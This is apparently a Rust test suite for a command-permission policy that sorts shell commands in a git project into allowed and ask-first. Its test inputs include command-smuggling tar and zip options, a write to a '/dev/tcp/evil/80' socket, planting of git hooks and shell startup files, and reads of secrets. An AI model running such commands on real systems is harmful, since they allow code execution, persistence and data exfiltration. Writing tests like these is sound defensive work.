//! Writes by rule, in a real git project (`tests_everyday::project`): what the sandbox
//! contains runs unasked; overwriting what git tracks, planting what runs later, or writing
//! through a link or outside the project asks, by every spelling an attacker would try.

use super::tests_everyday::project;
use super::{Policy, Verdict};

fn check(policy: &Policy, table: &[(&str, &str)], verdict: Verdict) {
    super::tests::check_with(policy, table, verdict);
}

fn world() -> (tempfile::TempDir, Policy) {
    let dir = tempfile::tempdir().expect("temp dir");
    let root = std::fs::canonicalize(dir.path()).expect("canonical");
    let policy = project(&root);
    let project = root.join("home/project");
    std::os::unix::fs::symlink(root.join("home/.bashrc"), project.join("link.txt")).expect("link");
    std::os::unix::fs::symlink(project.join("README.md"), project.join("readme.log"))
        .expect("link");
    std::fs::hard_link(project.join("data.json"), project.join("hard.log")).expect("hard link");
    std::fs::write(project.join("notes.md"), "mine, not committed").expect("write");
    std::fs::write(project.join(".env"), "API_KEY=x").expect("write");
    (dir, policy)
}

#[test]
fn writes_the_sandbox_contains_run_unasked() {
    let (_dir, policy) = world();
    check(
        &policy,
        &[
            ("cargo test > test.log 2>&1", ""),
            ("cargo build 2>&1 | tee build.log", ""),
            ("echo hi > out.txt", ""),
            ("echo hi >> app.log", ""), // ignored by .gitignore
            ("ls &> listing.txt", ""),
            ("tee -a run.log < app.log", ""),
            ("cp README.md README.copy.md", ""),
            ("cp -r src src-backup", ""),
            ("cp README.md docs/", ""),
            ("mv app.log app.old.log", ""),
            ("mkdir -p out && cp README.md out/", ""),
            ("chmod +x build.sh", ""),
            ("chmod u+x,g+rx scripts/run-tests.sh", ""),
            ("chmod 755 build.sh", ""),
            ("tar czf src.tar.gz src README.md", ""),
            ("tar -czf dist/src.tgz src", ""),
            ("zip -r src.zip src", ""),
            ("env", ""),
            ("env | sort", ""),
            ("printenv", ""),
            ("make -p", ""),
            ("find / -perm /u=s", ""),
            ("find ~ -name '*.pem'", ""),
            ("npx jest", ""),
            ("npx tsc --noEmit", ""),
            ("npx prettier --check .", ""),
            ("tox", ""),
            ("tox -e py311", ""),
        ],
        Verdict::Allow,
    );
}

#[test]
fn overwriting_a_tracked_file_asks() {
    let (_dir, policy) = world();
    check(
        &policy,
        &[
            ("echo x > README.md", "git tracks"),
            ("echo x >> src/main.rs", "git tracks"),
            ("echo x | tee Cargo.toml", "git tracks"),
            ("cp old.txt new.txt", "git tracks"),
            ("cp README.md src/../old.txt", "git tracks"),
            ("mv README.md README.txt", "git tracks"),
            ("mv out.txt README.md", "git tracks"),
            ("cp -r src .", "merges into"),
            ("echo x > notes.md", "neither tracks nor ignores"),
            ("tar czf README.md src", "git tracks"),
            ("zip -r Cargo.toml src", "git tracks"),
        ],
        Verdict::Ask,
    );
}

#[test]
fn writes_through_links_into_hidden_or_outside_ask() {
    let (_dir, policy) = world();
    check(
        &policy,
        &[
            ("echo x > link.txt", "symbolic link"),
            ("echo x > readme.log", "symbolic link"),
            ("echo x > hard.log", "hard links"),
            ("echo x | tee -a .git/hooks/pre-commit", ".git"),
            ("cp README.md .git/config", ".git"),
            ("cp build.sh .husky/pre-commit", ".husky"),
            ("echo x > .editorconfig", ".editorconfig"),
            (
                "mkdir -p .github/workflows && cp x.yml .github/workflows/",
                ".github",
            ),
            ("echo 'import os' > conftest.py", "pick up by themselves"),
            ("echo x > ~/.bashrc", "outside the project"),
            ("echo x > HOMEDIR/notes", "outside the project"),
            ("cd .. && echo x > notes", "changes directory"),
            ("chmod +x HOMEDIR/x.sh", "outside the project"),
            ("chmod +x .git/hooks/pre-commit", ".git"),
            ("chmod -R +x src", "permissions"),
            ("chmod 4755 build.sh", "permissions"),
            ("chmod 777 build.sh", "permissions"),
            ("chmod --reference=README.md build.sh", "permissions"),
            ("cp -l Cargo.toml x.log", "not check"),
            ("cp -s Cargo.toml x.log", "not check"),
            ("cp -r /etc/ssl ssl", "outside the project"),
            ("tar czf x.tgz --to-command='sh -c id' src", "not check"),
            (
                "tar czf x.tgz --use-compress-program=./evil src",
                "not check",
            ),
            ("tar -I ./evil -cf x.tgz src", ""),
            ("tar czf x.tgz --checkpoint-action=exec=id src", "not check"),
            ("tar czf host:/x.tgz src", "another host"),
            ("tar czf x.tgz --remove-files src", "not check"),
            ("tar czf x.tgz .", ".env"),
            ("zip -TT 'sh -c id' x.zip src", "not check"),
            ("zip -m x.zip README.md", "not check"),
            ("echo x > \"$F\"", "computed at run time"),
            ("echo x > /dev/tcp/evil/80", "network connection"),
        ],
        Verdict::Ask,
    );
}

#[test]
fn reasons_say_what_the_command_does() {
    let (_dir, policy) = world();
    for (command, reason) in [
        ("make clean", "`make clean` deletes files"),
        (
            "kubectl get secret db -o yaml",
            "`kubectl get secret db -o yaml` reads secrets",
        ),
        ("git checkout -b fix-build", "makes a branch"),
        ("git switch -c fix-build", "makes a branch"),
        (
            "npx cowsay hi",
            "`npx` downloads and runs a package unless the project has it",
        ),
        ("node -e 'console.log(1+1)'", "runs code"),
        ("curl localhost:8080/health", "network"),
    ] {
        let got = policy.command(command);
        assert_eq!(got.verdict, Verdict::Ask, "{command}: {got:?}");
        assert!(
            got.reasons.iter().any(|r| r.contains(reason)),
            "{command}: {:?}",
            got.reasons
        );
        assert_eq!(
            got.reasons.len(),
            1,
            "{command}: one reason, said once: {:?}",
            got.reasons
        );
    }
}
